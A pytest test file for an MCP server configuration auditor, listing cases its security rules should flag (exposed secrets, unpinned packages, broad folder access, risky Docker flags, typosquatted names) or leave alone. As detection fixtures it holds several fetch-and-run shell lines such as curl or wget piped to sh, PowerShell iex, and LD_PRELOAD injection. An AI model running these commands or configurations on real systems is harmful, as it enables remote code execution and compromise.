"""What the rules find, and what they leave alone: all of it, so that no rule says more than it should."""

from __future__ import annotations

import pytest

from mcptui.audit.case import Case
from mcptui.audit.rules import RULES, findings_of
from mcptui.model import Scope
from tests.audit.cases import case_of, rules_of

TOKEN = "ghp_" + "A1b2C3d4" * 4
FILES = "@modelcontextprotocol/server-filesystem@2.4.0"
DOCKER = ("docker", "run", "-i", "--rm")
IMAGE = "acme/tools:1.2.3"
PROJECT = Scope.PROJECT

FOUND: dict[str, tuple[Case, dict[str, str]]] = {
    # secrets
    "a token in an argument": (case_of("tool", "--github", TOKEN), {"SEC001": "high"}),
    "what follows a secret flag": (case_of("tool", "--api-key", "k3y-9f8e7d6c5b4a"), {"SEC001": "high"}),
    "a password that is a word": (case_of("tool", "--password", "letmein"), {"SEC001": "high"}),
    "a password in an address": (case_of("tool", "postgresql://sam:pw@db.example.com/x"), {"SEC001": "high"}),
    "the same on this computer": (case_of("tool", "postgresql://sam:pw@localhost/x"), {"SEC001": "low"}),
    "a key for tests": (case_of("tool", "--api-key", "sk_test_0123456789abcdef"), {"SEC001": "low"}),
    "a header for a bridge": (
        case_of(
            "npx",
            "mcp-remote@0.1.40",
            "https://a.example/mcp",
            "--header",
            f"Authorization: Bearer {TOKEN}",
            remote=False,
        ),
        {"SEC001": "high"},
    ),
    "a token for a container": (
        case_of(*DOCKER, "-e", "API_KEY=9f8e7d6c5b4a", "--env=GH=" + TOKEN, IMAGE),
        {"SEC001": "high"},
    ),
    "a token in env": (case_of("tool", env={"GITHUB": TOKEN}), {"SEC002": "medium"}),
    "a long value of a secret name": (case_of("tool", env={"API_KEY": "9f8e7d6c5b4a"}), {"SEC002": "medium"}),
    "a password in a variable's address": (case_of("tool", env={"DB": "mysql://a:b@h/x"}), {"SEC002": "medium"}),
    "a password in the url": (case_of(url="https://sam:pw@a.example/mcp"), {"SEC003": "high"}),
    "a parameter of the url": (case_of(url="https://a.example/mcp?api_key=9f8e7d6c"), {"SEC003": "high"}),
    "a literal header": (case_of(url="https://a.example/", headers={"X-API-Key": "9f8e-7d6c"}), {"SEC003": "high"}),
    "a literal bearer": (
        case_of(url="https://a.example/", headers={"Authorization": f"Bearer {TOKEN}"}),
        {"SEC003": "high"},
    ),
    # pinning
    "no version": (case_of("npx", "some-mcp"), {"PIN001": "medium"}),
    "no version, and no question": (case_of("npx", "-y", "some-mcp"), {"PIN001": "medium", "PIN004": "low"}),
    "no version for Python": (case_of("uvx", "some-mcp"), {"PIN001": "medium"}),
    "the newest": (case_of("npx", "some-mcp@latest"), {"PIN002": "medium"}),
    "a range": (case_of("bunx", "some-mcp@^1.2"), {"PIN002": "medium"}),
    "a range for Python": (case_of("uvx", "some-mcp>=1.2"), {"PIN002": "medium"}),
    "an image without a tag": (case_of(*DOCKER, "acme/tools"), {"PIN002": "medium"}),
    "an image of the newest": (case_of(*DOCKER, "acme/tools:latest"), {"PIN002": "medium"}),
    "an image of one's own": (case_of(*DOCKER, "tools"), {"PIN002": "low"}),
    "a repository": (case_of("npx", "github:acme/mcp"), {"PIN003": "high"}),
    "a branch": (case_of("uvx", "--from", "git+https://git.example/acme/mcp@main", "mcp"), {"PIN003": "high"}),
    "an archive of the web": (case_of("npx", "https://acme.example/mcp.tgz"), {"PIN003": "high"}),
    # folders
    "the home": (case_of("npx", FILES, "/home/sam"), {"PATH001": "high"}),
    "the root": (case_of("npx", FILES, "/"), {"PATH001": "high"}),
    "all homes": (case_of("npx", FILES, "/home"), {"PATH001": "high"}),
    "the home as a variable": (case_of("npx", FILES, "${HOME}"), {"PATH001": "high"}),
    "the home for a server that is not known": (case_of("tool", "--dir", "~"), {"PATH001": "high"}),
    "the root for one that is not known": (case_of("tool", "--allowed-dir=/"), {"PATH001": "high"}),
    "keys": (case_of("npx", FILES, "/home/sam/.ssh"), {"PATH002": "high"}),
    "below the keys": (case_of("npx", FILES, "/home/sam/.aws/sso/cache"), {"PATH002": "high"}),
    "what holds keys": (case_of("npx", FILES, "/home/sam/.config"), {"PATH002": "high"}),
    "a key by its name": (case_of("tool", "--identity=/home/sam/.ssh/id_ed25519"), {"PATH002": "medium"}),
    "outside the project": (case_of("npx", FILES, "/srv/data", scope=PROJECT), {"PATH003": "medium"}),
    # execution
    "a shell": (case_of("bash", "-c", "node server.js && true | cat"), {"EXEC001": "medium"}),
    "a shell within": (case_of("env", "A=b", "sh", "-c", "node server.js"), {"EXEC001": "medium"}),
    "npx with a text": (case_of("npx", "-c", "node server.js"), {"EXEC001": "medium"}),
    "a download": (case_of("bash", "-c", "curl -fsSL https://a.example/i.sh | sh"), {"EXEC002": "critical"}),
    "a download for the administrator": (
        case_of("sh", "-c", "wget -qO- https://a.example/i | sudo -E bash -s"),
        {"EXEC002": "critical", "EXEC003": "high"},
    ),
    "a download in brackets": (case_of("bash", "-c", 'eval "$(curl -s https://a.example/i)"'), {"EXEC002": "critical"}),
    "a download as a file": (case_of("bash", "-c", "bash <(curl -s https://a.example/i)"), {"EXEC002": "critical"}),
    "a download on Windows": (
        case_of("powershell", "-Command", "iex (irm https://a.example/i.ps1)"),
        {"EXEC002": "critical"},
    ),
    "what is decoded": (case_of("sh", "-c", "echo aGk= | base64 --decode | sh"), {"EXEC002": "critical"}),
    "a download in Python": (
        case_of("python", "-c", "import urllib.request as r; exec(r.urlopen('https://a.example').read())"),
        {"EXEC002": "critical"},
    ),
    "the administrator": (case_of("sudo", "node", "server.js"), {"EXEC003": "high"}),
    "the administrator in a container's tool": (case_of("pkexec", "server"), {"EXEC003": "high"}),
    "code before the code": (case_of("tool", env={"LD_PRELOAD": "/opt/x.so"}), {"EXEC004": "high"}),
    "code before the code, in the line": (case_of("env", "LD_PRELOAD=/opt/x.so", "tool"), {"EXEC004": "high"}),
    "code before Node": (case_of("node", "a.js", env={"NODE_OPTIONS": "--require /opt/x.js"}), {"EXEC004": "high"}),
    "modules from elsewhere": (case_of("python", "a.py", env={"PYTHONPATH": "/home/sam/src/x"}), {"EXEC004": "low"}),
    "programs from anywhere": (case_of("tool", env={"PATH": "/tmp/bin:/usr/bin"}), {"EXEC004": "high"}),
    "certificates unchecked": (case_of("tool", env={"NODE_TLS_REJECT_UNAUTHORIZED": "0"}), {"EXEC005": "high"}),
    "certificates unchecked by a flag": (case_of("tool", "--insecure"), {"EXEC005": "high"}),
    "packages from elsewhere": (
        case_of("uvx", "--index-url", "https://pypi.acme.example/simple", "some-mcp==1.0"),
        {"EXEC005": "medium"},
    ),
    "packages from elsewhere in the clear": (
        case_of("npx", "some-mcp@1.0.0", env={"NPM_CONFIG_REGISTRY": "http://acme.example/"}),
        {"EXEC005": "high"},
    ),
    "a proxy of strangers": (
        case_of("tool", env={"HTTPS_PROXY": "http://proxy.acme.example:3128"}),
        {"EXEC005": "low"},
    ),
    "keys for another vendor": (
        case_of("tool", env={"OPENAI_BASE_URL": "https://llm.acme.example/v1"}, scope=PROJECT),
        {"EXEC006": "high"},
    ),
    # network
    "not encrypted": (case_of(url="http://crm.example:8080/mcp"), {"NET001": "high"}),
    "not encrypted at home": (case_of(url="http://192.168.1.7/mcp"), {"NET001": "medium"}),
    "not encrypted through a bridge": (
        case_of("npx", "mcp-remote@0.1.40", "http://crm.example/mcp", remote=False),
        {"NET001": "high"},
    ),
    "a bridge with a hole": (
        case_of("npx", "mcp-remote@0.1.15", "https://a.example/mcp", remote=False),
        {"NET002": "critical"},
    ),
    "a bridge": (case_of("npx", "mcp-remote@0.1.40", "https://a.example/mcp"), {"NET003": "info"}),
    "open to all": (case_of("tool", "--host", "0.0.0.0"), {"NET004": "high"}),
    "open to all by a variable": (case_of("tool", env={"HOST": "0.0.0.0"}), {"NET004": "high"}),
    "a port for all": (case_of(*DOCKER, "-p", "8000:8000", IMAGE), {"NET004": "high"}),
    "a name for an hour": (case_of(url="https://a1b2.ngrok-free.app/mcp"), {"NET005": "medium"}),
    "a number": (case_of(url="https://203.0.113.7/mcp"), {"NET005": "medium"}),
    # containers
    "a container with all rights": (case_of(*DOCKER, "--privileged", IMAGE), {"DOCK001": "critical"}),
    "a container with a right": (case_of(*DOCKER, "--cap-add=CAP_SYS_ADMIN", IMAGE), {"DOCK001": "critical"}),
    "a container that sees all processes": (case_of(*DOCKER, "--pid", "host", IMAGE), {"DOCK001": "critical"}),
    "a device": (case_of(*DOCKER, "--device", "/dev/ttyUSB0", IMAGE), {"DOCK001": "medium"}),
    "the engine": (
        case_of(*DOCKER, "-v", "/var/run/docker.sock:/var/run/docker.sock:ro", IMAGE),
        {"DOCK002": "critical"},
    ),
    "the engine, where that is the point": (
        case_of(*DOCKER, "-v", "/var/run/docker.sock:/var/run/docker.sock:ro", "acme/docker-mcp:1.0.0"),
        {"DOCK002": "high"},
    ),
    "the network of the host": (case_of(*DOCKER, "--network=host", IMAGE), {"DOCK003": "medium"}),
    "the root mounted": (case_of(*DOCKER, "-v", "/:/host", IMAGE), {"DOCK004": "high"}),
    "keys mounted": (case_of(*DOCKER, "-v", "/home/sam/.aws:/root/.aws:ro", IMAGE), {"DOCK004": "high"}),
    "keys mounted, where that is the point": (
        case_of(*DOCKER, "-v", "/home/sam/.kube/config:/config:ro", "acme/kube-mcp:1.0.0"),
        {"DOCK004": "medium"},
    ),
    "a mount for writing": (case_of(*DOCKER, "-v", "/home/sam/src/acme:/src", IMAGE), {"DOCK005": "low"}),
    "a container that stays": (case_of("docker", "run", "-i", IMAGE), {"DOCK006": "info"}),
    "a terminal": (case_of("docker", "run", "--rm", "-it", IMAGE), {"DOCK006": "info"}),
    "all of Deno": (case_of("deno", "run", "-A", "jsr:@acme/mcp@1.0.0"), {"DENO001": "high"}),
    # where it comes from
    "an archived package": (case_of("npx", "@modelcontextprotocol/server-github@1.0.0"), {"SRC001": "high"}),
    "a version with a hole": (case_of("uvx", "mcp-server-git==2026.1.14"), {"SRC002": "high"}),
    "an installed version with a hole": (
        case_of("uvx", "mcp-server-fetch", installed="2026.10.24"),
        {"SRC002": "high", "PIN001": "medium"},
    ),
    "an older numbering": (
        case_of("npx", "@modelcontextprotocol/server-filesystem@2025.8.21", "/srv"),
        {"SRC002": "high"},
    ),
    "a hole of those who listen": (case_of("npx", "@playwright/mcp@0.0.39"), {"SRC002": "info"}),
    "a harmful package": (case_of("npx", "postmark-mcp@1.0.16"), {"SRC003": "critical"}),
    "a slip": (case_of("npx", "@modelcontextprotocol/server-filesytem@2.4.0"), {"SRC004": "high"}),
    "a scope that is alike": (case_of("npx", "@modelcontextprotoco1/server-filesystem@2.4.0"), {"SRC004": "high"}),
    "other dashes": (case_of("npx", "@model-context-protocol/server-memory@1.0.0"), {"SRC004": "high"}),
    "a name that never was": (case_of("npx", "@modelcontextprotocol/server-git@1.0.0"), {"SRC005": "high"}),
    # names
    "a character that does not show": (case_of("tool", name="git\u200bhub"), {"UNI001": "high"}),
    "text that turns round": (case_of("tool", "a\u202eb"), {"UNI001": "high"}),
    "two scripts in a word": (case_of("tool", name="git\u04bbu\u0431"), {"UNI001": "high"}),
    "a host that looks like another": (case_of(url="https://xn--80ak6aa92e.com/mcp"), {"UNI001": "high"}),
    "a name like another": (case_of("tool", name="\u0455\u0435ntr\u0443"), {"UNI001": "high", "UNI002": "medium"}),
    # what it can do
    "commands": (case_of("npx", "@wonderwhy-er/desktop-commander@0.2.9"), {"CAP002": "high"}),
    "writing": (case_of("uvx", "mcp-server-motherduck==1.0.0"), {"CAP003": "low"}),
    "all tools": (case_of("npx", "@stripe/mcp@0.3.1", "--tools=all"), {"CAP004": "low"}),
    # approval
    "no question at all": (case_of("tool", approved=["*"]), {"APPR001": "high"}),
    "no question before a change": (case_of("tool", approved=["read_file", "deleteFile"]), {"APPR004": "medium"}),
}

LEFT_ALONE: dict[str, Case] = {
    "a package with its version": case_of("npx", "-y", "some-mcp@1.2.3"),
    "a Python package with its version": case_of("uvx", "some-mcp==1.2.3"),
    "a version of a variable": case_of("npx", "some-mcp@${VERSION}"),
    "a commit": case_of("uvx", "--from", f"git+https://git.example/acme/mcp@{'a1' * 20}", "mcp"),
    "an image with its digest": case_of(*DOCKER, f"acme/tools@sha256:{'0' * 64}"),
    "an image with its version": case_of(*DOCKER, IMAGE),
    "a program of this computer": case_of("/opt/acme/bin/mcp", "--stdio"),
    "a script": case_of("node", "/opt/acme/server.js"),
    "a remote server": case_of(url="https://mcp.acme.example/mcp"),
    "a server on this computer": case_of(url="http://127.0.0.1:3845/mcp"),
    "the same through its name": case_of(url="http://localhost:8080/mcp"),
    "an address that is filled in": case_of(url="http://${HOST}/mcp"),
    "a header that is filled in": case_of(url="https://a.example/", headers={"Authorization": "Bearer ${TOKEN}"}),
    "a header that is asked for": case_of(url="https://a.example/", headers={"X-API-Key": "${input:key}"}),
    "a header that is no secret": case_of(url="https://a.example/", headers={"X-Team": "blue-9f8e7d6c5b"}),
    "a placeholder": case_of("tool", "--api-key", "YOUR_API_KEY", "--token", "<token>", "--secret", "changeme"),
    "a way to log in": case_of("tool", "--auth", "oauth", "--token-file", "/run/secrets/token"),
    "names that only sound so": case_of("tool", env={"MAX_TOKENS": "100000000000", "KEY_FILE": "/etc/acme/key.pem"}),
    "a variable that is filled in": case_of("tool", env={"API_KEY": "${API_KEY}"}),
    "a short value": case_of("tool", env={"API_KEY": "none"}),
    "what a container is told": case_of(*DOCKER, "-e", "JAVA_OPTS=-Xmx512m;x=y", "--env=MODE=a;b=c", IMAGE),
    "a header that tells nothing": case_of("tool", "--header", "X-Team: blue;9f8e7d6c5b"),
    "a number in an address": case_of("tool", "https://a.example/p/1b4e28ba-2fa1-11d2-883f-0016d3cca427/x"),
    "an address with a port": case_of("tool", "--url", "https://db.example.com:5432/x"),
    "the project": case_of("npx", FILES, "/home/sam/src/acme"),
    "the project for a project": case_of("npx", FILES, ".", scope=PROJECT),
    "a folder of the client's": case_of("npx", FILES, "${workspaceFolder}", scope=PROJECT),
    "a folder among settings": case_of("npx", FILES, "/home/sam/.config/acme/notes"),
    "a folder called after keys": case_of("npx", FILES, "/home/sam/src/ssh"),
    "a path of an address": case_of("tool", "--base-path", "/", "--prefix=/"),
    "npx on Windows": case_of("cmd", "/c", "npx", "-y", "some-mcp@1.2.3"),
    "curl alone": case_of("curl", "-s", "https://a.example/"),
    "a shell that is searched for": case_of("tool", "--query", "curl or wget, then sh"),
    "a pipe without a download": case_of("tool", "a | sh"),
    "memory for Node": case_of("node", "a.js", env={"NODE_OPTIONS": "--max-old-space-size=4096"}),
    "an environment by its name": case_of("tool", env={"ENV": "production", "PATH": "/usr/local/bin:/usr/bin"}),
    "certificates checked": case_of("tool", env={"NODE_TLS_REJECT_UNAUTHORIZED": "1"}),
    "a mirror of a company": case_of("tool", env={"PIP_INDEX_URL": "https://10.1.2.3/simple"}),
    "a proxy of a company": case_of("tool", env={"HTTPS_PROXY": "http://proxy.acme.lan:3128"}),
    "the vendor itself": case_of("tool", env={"OPENAI_BASE_URL": "https://api.openai.com/v1"}, scope=PROJECT),
    "a gateway of one's own": case_of("tool", env={"OPENAI_BASE_URL": "https://llm.acme.example/v1"}),
    "a bridge that is needed": case_of("npx", "mcp-remote@0.1.40", "https://a.example/mcp", remote=False),
    "a port for this computer": case_of(*DOCKER, "-p", "127.0.0.1:8000:8000", IMAGE),
    "a container that listens inside": case_of(*DOCKER, "-e", "HOST=0.0.0.0", IMAGE, "--host", "0.0.0.0"),
    "a container with no rights": case_of(*DOCKER, "--cap-drop", "ALL", "--network", "none", IMAGE),
    "a container that is not privileged": case_of(*DOCKER, "--privileged=false", IMAGE),
    "a mount for reading": case_of(*DOCKER, "-v", "/home/sam/src/acme:/src:ro", IMAGE),
    "a volume": case_of(*DOCKER, "-v", "notes:/data", IMAGE),
    "a container that is there": case_of("docker", "exec", "-i", "tools", "server"),
    "Deno with doors": case_of("deno", "run", "--allow-net=api.acme.example", "jsr:@acme/mcp@1.0.0"),
    "a version that was mended": case_of("uvx", "mcp-server-git==2026.11.18"),
    "a newer numbering": case_of("npx", FILES, "/home/sam/src/acme"),
    "a short neighbour": case_of("uvx", "mcp-server-gist==1.0.0"),
    "a name of its own": case_of("npx", "@acme/server-filesystem@1.0.0"),
    "a name in one script": case_of("tool", name="\u0444\u0430\u0439\u043b\u044b"),
    "a name with a picture": case_of("tool", name="family \U0001f468\u200d\U0001f469\u200d\U0001f467"),
    "text of several lines": case_of("tool", "--prompt", "one\n\ttwo"),
    "a host in its own letters": case_of(url="https://xn--mnchen-3ya.example/mcp"),
    "commands in a sandbox": case_of("srt", "npx", "@wonderwhy-er/desktop-commander@0.2.9"),
    "reading only": case_of("uvx", "mcp-server-motherduck==1.0.0", "--read-only"),
    "reading only by a variable": case_of("uvx", "mcp-neo4j-cypher==1.0.0", env={"NEO4J_READ_ONLY": "true"}),
    "restricted in two words": case_of("uvx", "postgres-mcp==1.0.0", "--access-mode", "restricted"),
    "tools that were chosen": case_of("npx", "@stripe/mcp@0.3.1", "--tools=products.read"),
    "tools that the client hides": case_of("npx", "@stripe/mcp@0.3.1", limited=True),
    "questions spared for reading": case_of("tool", approved=["read_file", "list_issues", "get_updated_at"]),
}


@pytest.mark.parametrize("what", FOUND)
def test_what_is_found(what: str) -> None:
    case, expected = FOUND[what]
    assert rules_of(case) == expected


@pytest.mark.parametrize("what", LEFT_ALONE)
def test_what_is_left_alone(what: str) -> None:
    assert rules_of(LEFT_ALONE[what]) == {}


def test_every_rule_finds_something_here() -> None:
    assert {rule for _, expected in FOUND.values() for rule in expected} == {rule.id for rule in RULES}


def test_the_ids_of_rules_are_their_own() -> None:
    assert len({rule.id for rule in RULES}) == len(RULES)


def test_the_gravest_comes_first() -> None:
    case = case_of("npx", "-y", "mcp-remote", "http://crm.example/mcp", installed="0.1.15")
    severities = [finding.severity for finding in findings_of(case)]
    assert severities == sorted(severities, key=lambda severity: severity.rank)
    assert severities[0].value == "critical"
